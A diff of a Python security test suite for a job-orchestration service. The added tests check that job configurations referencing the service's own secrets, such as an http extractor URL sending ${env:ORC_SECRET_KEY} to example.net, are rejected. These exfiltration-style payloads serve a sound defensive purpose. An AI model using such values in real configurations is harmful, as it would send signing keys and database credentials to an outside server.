@@ -288,6 +288,80 @@ def test_a_symlink_swapped_in_after_saving_is_refused_at_run_time(tmp_path: Path
     assert sorted(p.name for p in outside.iterdir()) == ["secret.csv"], "nothing written outside"
 
 
+# --- the service's own settings are not plugin secrets -------------------------------------------
+
+
+def test_configs_may_not_reference_the_services_own_settings(admin: Api, user: Api) -> None:
+    """An `http` extractor aimed at `https://example.net/?k=${env:ORC_SECRET_KEY}` would hand
+    the token key (and with it every account) to that server: refused when saved, by anyone."""
+    evil = [
+        (
+            "extractor_config.url",
+            {"type": "http", "url": "https://example.net/?k=${env:ORC_SECRET_KEY}"},
+        ),
+        (
+            "extractor_config.headers.X",
+            {
+                "type": "http",
+                "url": "https://example.net/",
+                "headers": {"X": "${env:orc_admin_password}"},
+            },
+        ),
+        ("loader_config.url", "${env:DATABASE_URL}"),
+    ]
+    for field, config in evil:
+        if field.startswith("loader_config"):
+            task = {
+                "task_order": 1,
+                "extractor_config": {"type": "generate", "rows": 1},
+                "loader_config": {"type": "postgres", "url": config, "table": "t"},
+            }
+        else:
+            task = {"task_order": 1, "extractor_config": config, "loader_config": {"type": "null"}}
+        for caller in (user, admin):
+            response = caller.post("/api/v1/jobs", json=job_body("leak", tasks=[task]))
+            assert response.status_code == 422, response.text
+            assert response.json()["field"] == f"tasks[0].{field}"
+            assert "setting of the service itself" in response.json()["detail"]
+    assert admin.get("/api/v1/jobs").json() == [], "nothing was stored"
+
+    # Adding or changing a task is checked the same way.
+    job = admin.post("/api/v1/jobs", json=job_body("fine")).json()
+    tasks_url = f"/api/v1/jobs/{job['job_id']}/tasks"
+    task_id = job["tasks"][0]["task_id"]
+    leaky = {"type": "http", "url": "https://example.net/${env:ORC_DATABASE_URL}"}
+    added = user.post(
+        tasks_url,
+        json={"task_order": 2, "extractor_config": leaky, "loader_config": {"type": "null"}},
+    )
+    assert (added.status_code, added.json()["field"]) == (422, "extractor_config.url")
+    changed = user.patch(f"{tasks_url}/{task_id}", json={"extractor_config": leaky})
+    assert (changed.status_code, changed.json()["field"]) == (422, "extractor_config.url")
+    # A variable of its own is fine, even one whose name merely begins with ORC.
+    own = {"type": "http", "url": "https://example.net/${env:ORCHARD_API_PATH}"}
+    ok = user.patch(f"{tasks_url}/{task_id}", json={"extractor_config": own})
+    assert ok.status_code == 200, ok.text
+
+
+def test_a_stored_reference_to_a_service_setting_fails_at_run_time(tmp_path: Path) -> None:
+    """A job saved before the check existed: the executor refuses it, naming no value."""
+    spec = TaskSpec(
+        run_id=str(uuid.uuid4()),
+        job_id="job-1",
+        task_id="task-1",
+        task_order=1,
+        extractor_config={"type": "generate", "rows": 1},
+        loader_config={"type": "csv", "path": "${env:ORC_SECRET_KEY}.csv"},
+        data_dir=str(tmp_path),
+        environ={"ORC_SECRET_KEY": "the-signing-key-itself"},
+    )
+    result = run_task(spec, _Reporter(lambda message: None), lambda: False)
+    assert result.status == "failed"
+    assert "setting of the service itself" in (result.error_message or "")
+    assert "the-signing-key-itself" not in (result.error_message or "")
+    assert list(tmp_path.iterdir()) == [], "nothing written"
+
+
 # --- SQL identifiers ---------------------------------------------------------------------------
 
 EVIL_IDENTIFIERS = [
@@ -459,15 +533,15 @@ def test_secrets_never_show_in_responses_pages_logs_or_errors(
 ) -> None:
     # The test server trusts local connections, so a URL carrying any password still connects:
     # the run succeeds with the secret in play.
-    monkeypatch.setenv("ORC_SEC_DEST_URL", _with_password(pg_dest, ENV_PASSWORD))
-    monkeypatch.setenv("ORC_SEC_BAD_URL", _with_password(pg_dest, BAD_ENV_PASSWORD, "no_such_db"))
+    monkeypatch.setenv("SEC_TEST_DEST_URL", _with_password(pg_dest, ENV_PASSWORD))
+    monkeypatch.setenv("SEC_TEST_BAD_URL", _with_password(pg_dest, BAD_ENV_PASSWORD, "no_such_db"))
     literal_ok = _with_password(pg_dest, URL_PASSWORD)
     literal_bad = _with_password(pg_dest, BAD_URL_PASSWORD, "no_such_db")
     ok_tasks = [
         {
             "task_order": 1,
             "extractor_config": {"type": "generate", "rows": 5},
-            "loader_config": {"type": "postgres", "url": "${env:ORC_SEC_DEST_URL}", "table": "s"},
+            "loader_config": {"type": "postgres", "url": "${env:SEC_TEST_DEST_URL}", "table": "s"},
         },
         {
             "task_order": 2,
@@ -486,7 +560,7 @@ def test_secrets_never_show_in_responses_pages_logs_or_errors(
         {
             "task_order": 1,
             "extractor_config": {"type": "generate", "rows": 1},
-            "loader_config": {"type": "postgres", "url": "${env:ORC_SEC_BAD_URL}", "table": "s"},
+            "loader_config": {"type": "postgres", "url": "${env:SEC_TEST_BAD_URL}", "table": "s"},
         }
     ]
     settings = make_settings(clean_database, data_dir=tmp_path)
